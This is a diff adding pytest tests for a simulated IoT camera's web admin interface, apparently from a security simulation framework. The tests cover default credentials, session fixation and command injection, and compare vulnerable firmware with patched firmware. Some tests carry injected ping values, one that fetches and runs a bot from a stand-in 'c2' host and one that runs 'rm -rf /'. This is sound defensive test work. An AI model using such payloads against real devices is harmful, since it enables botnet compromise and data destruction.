@@ -1,0 +1,140 @@
+"""Tests for the embedded web admin interface and its exploitation."""
+
+import pytest
+
+from repro.attacks import WebCommandInjection
+from repro.device import Environment, IoTDevice
+from repro.device.device import Vulnerabilities, get_device_spec
+from repro.device.webadmin import WebAdminInterface
+from repro.network.protocols.http import HttpRequest
+from repro.scenarios import SmartHome, SmartHomeConfig
+from repro.sim import Simulator
+
+
+@pytest.fixture
+def device_and_ui():
+    sim = Simulator()
+    env = Environment(sim)
+    device = IoTDevice(sim, "cam", get_device_spec("camera"), env,
+                       vulnerabilities=Vulnerabilities(
+                           default_credentials=True))
+    ui = WebAdminInterface(device, command_injection=True)
+    return sim, device, ui
+
+
+def login(ui, username="admin", password="admin", **extra):
+    response = ui.handle(HttpRequest(
+        "POST", "/login", body={"username": username, "password": password,
+                                **extra}))
+    return response
+
+
+class TestWebAdmin:
+    def test_login_and_status(self, device_and_ui):
+        _sim, device, ui = device_and_ui
+        response = login(ui)
+        assert response.ok
+        token = response.body["session"]
+        status = ui.handle(HttpRequest("GET", "/status",
+                                       headers={"Cookie": token}))
+        assert status.ok
+        assert status.body["firmware"] == "1.0.0"
+
+    def test_bad_credentials_rejected(self, device_and_ui):
+        _sim, _device, ui = device_and_ui
+        assert login(ui, password="wrong").status == 401
+
+    def test_unauthenticated_endpoints_locked(self, device_and_ui):
+        _sim, _device, ui = device_and_ui
+        for method, path in (("GET", "/status"), ("POST", "/diag/ping"),
+                             ("POST", "/settings")):
+            assert ui.handle(HttpRequest(method, path)).status == 401
+
+    def test_unknown_route_404(self, device_and_ui):
+        _sim, _device, ui = device_and_ui
+        assert ui.handle(HttpRequest("GET", "/secret")).status == 404
+
+    def test_benign_ping_works(self, device_and_ui):
+        _sim, device, ui = device_and_ui
+        token = login(ui).body["session"]
+        response = ui.handle(HttpRequest(
+            "POST", "/diag/ping", headers={"Cookie": token},
+            body={"host": "example.com"}))
+        assert response.ok and "0% loss" in response.body
+        assert not device.infected
+
+    def test_injection_on_vulnerable_firmware(self, device_and_ui):
+        _sim, device, ui = device_and_ui
+        token = login(ui).body["session"]
+        ui.handle(HttpRequest(
+            "POST", "/diag/ping", headers={"Cookie": token},
+            body={"host": "8.8.8.8; wget http://c2/bot; /tmp/bot"}))
+        assert device.infected
+        assert "web-bot" in device.os.processes
+        assert ui.injected_commands
+
+    def test_sanitised_firmware_rejects_metacharacters(self):
+        sim = Simulator()
+        env = Environment(sim)
+        device = IoTDevice(sim, "cam", get_device_spec("camera"), env,
+                           vulnerabilities=Vulnerabilities(
+                               default_credentials=True))
+        ui = WebAdminInterface(device, command_injection=False)
+        token = login(ui).body["session"]
+        response = ui.handle(HttpRequest(
+            "POST", "/diag/ping", headers={"Cookie": token},
+            body={"host": "8.8.8.8; rm -rf /"}))
+        assert response.status == 400
+        assert not device.infected
+
+    def test_session_fixation_variant(self, device_and_ui):
+        sim = Simulator()
+        env = Environment(sim)
+        device = IoTDevice(sim, "cam", get_device_spec("camera"), env,
+                           vulnerabilities=Vulnerabilities(
+                               default_credentials=True))
+        ui = WebAdminInterface(device, session_fixation=True)
+        response = login(ui, session="attacker-chosen-token")
+        assert response.body["session"] == "attacker-chosen-token"
+
+    def test_web_service_registered_in_os(self, device_and_ui):
+        _sim, device, _ui = device_and_ui
+        assert 80 in device.os.open_ports
+        assert device.os.services[80] == "web-admin"
+
+
+class TestWebExploitOverNetwork:
+    def build(self, command_injection=True, default_creds=True):
+        home = SmartHome(SmartHomeConfig(devices=[
+            ("camera", Vulnerabilities(default_credentials=default_creds)),
+        ]))
+        ui = WebAdminInterface(home.device("camera-1"),
+                               command_injection=command_injection)
+        home.run(5.0)
+        return home, ui
+
+    def test_end_to_end_injection(self):
+        home, _ui = self.build()
+        attack = WebCommandInjection(home, "camera-1")
+        attack.launch()
+        home.run(30.0)
+        outcome = attack.outcome()
+        assert outcome.succeeded
+        assert outcome.compromised_devices == {"camera-1"}
+
+    def test_strong_credentials_stop_the_login(self):
+        home, _ui = self.build(default_creds=False)
+        attack = WebCommandInjection(home, "camera-1")
+        attack.launch()
+        home.run(30.0)
+        assert not attack.outcome().succeeded
+        assert 401 in attack.outcome().details["responses"]
+
+    def test_patched_firmware_stops_the_injection(self):
+        home, _ui = self.build(command_injection=False)
+        attack = WebCommandInjection(home, "camera-1")
+        attack.launch()
+        home.run(30.0)
+        outcome = attack.outcome()
+        assert not outcome.succeeded
+        assert 400 in outcome.details["responses"]
